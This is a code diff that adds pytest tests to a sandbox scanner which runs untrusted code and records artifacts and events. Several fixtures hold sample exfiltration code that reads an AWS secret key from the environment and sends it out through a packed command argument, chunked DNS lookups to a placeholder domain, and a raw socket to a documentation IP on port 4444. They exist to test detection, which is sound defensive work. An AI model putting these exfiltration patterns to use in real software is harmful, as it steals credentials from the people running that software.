@@ -230,3 +230,85 @@ print(tried)
     )
     assert printed(report) == []
     assert any(event.kind == "watch.tamper" for event in report.dynamic.events)
+
+
+def test_what_a_file_held_before_it_was_overwritten_is_kept(report_of: Evaluate) -> None:
+    report = detonated(
+        report_of,
+        """
+import errno, os
+def write(path, text):
+    with open(path, "w") as file:
+        file.write(text)
+write("/tmp/s.sh", "echo one\\n")
+os.system("sh /tmp/s.sh")
+write("/tmp/s.sh", "echo two\\n")
+write("/tmp/t.sh", "echo three\\n")
+write("/tmp/u.sh", "echo four\\n")
+os.rename("/tmp/u.sh", "/tmp/t.sh")
+os.truncate("/tmp/t.sh", 0)
+try:
+    os.open("/tmp", os.O_TMPFILE | os.O_RDWR)
+except OSError as error:
+    print(repr(errno.errorcode[error.errno]), flush=True)
+""",
+    )
+    kept = [(artifact.path, artifact.why, artifact.content) for artifact in report.dynamic.artifacts]
+    assert ("/tmp/s.sh", "run", b"echo one\n") in kept
+    assert ("/tmp/s.sh", "left", b"echo two\n") in kept
+    assert ("/tmp/t.sh", "overwritten", b"echo three\n") in kept
+    assert ("/tmp/t.sh", "overwritten", b"echo four\n") in kept
+    texts = {stream: text for stream, text, _ in report.dynamic.printed}
+    assert texts["loader stdout"].splitlines() == ["one", "'ENOTSUP'"]
+
+
+_STOLEN = """
+import base64, gzip, os, socket, subprocess
+key = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
+"""
+
+
+@pytest.mark.parametrize(
+    ("kind", "source"),
+    [
+        (
+            "decoy.passed",
+            'subprocess.run(["true", base64.b64encode(gzip.compress(key)).decode()])',
+        ),
+        (
+            "decoy.sent",
+            """
+for at, part in enumerate(key.hex()[start : start + 10] for start in range(0, 2 * len(key), 10)):
+    try:
+        socket.getaddrinfo(f"{at}.{part}.t.example.invalid", 80)
+    except OSError:
+        pass
+""",
+        ),
+        (
+            "decoy.sent",
+            """
+peer = socket.create_connection(("203.0.113.9", 4444))
+peer.sendall(b"A" * 200_000 + key)
+peer.close()
+""",
+        ),
+    ],
+    ids=["as an argument, packed", "in names, with a counter", "behind much else"],
+)
+def test_a_secret_that_leaves_is_found(kind: str, source: str, report_of: Evaluate) -> None:
+    report = detonated(report_of, _STOLEN + source)
+    told = [event.detail["name"] for event in report.dynamic.events if event.kind == kind]
+    assert "AWS secret key" in told, [event for event in report.dynamic.events if event.kind == "finder.gap"]
+
+
+def test_more_than_is_looked_through_is_said(report_of: Evaluate) -> None:
+    report = detonated(report_of, "open('/tmp/big', 'wb').write(bytes(1 << 20)); __import__('os').system('true')")
+    assert "event.finder" in {finding.rule for finding in report.findings}
+    assert not report.completeness.complete
+
+
+def test_what_can_not_be_loaded_is_judged_as_ever(evaluated: Evaluate, tmp_path: Path) -> None:
+    model = tmp_path / "model.gguf"
+    model.write_bytes(b"GGUF\3\0\0\0\0")
+    assert evaluated(model, policy="detonate").verdict == evaluated(model).verdict == Verdict.INCONCLUSIVE
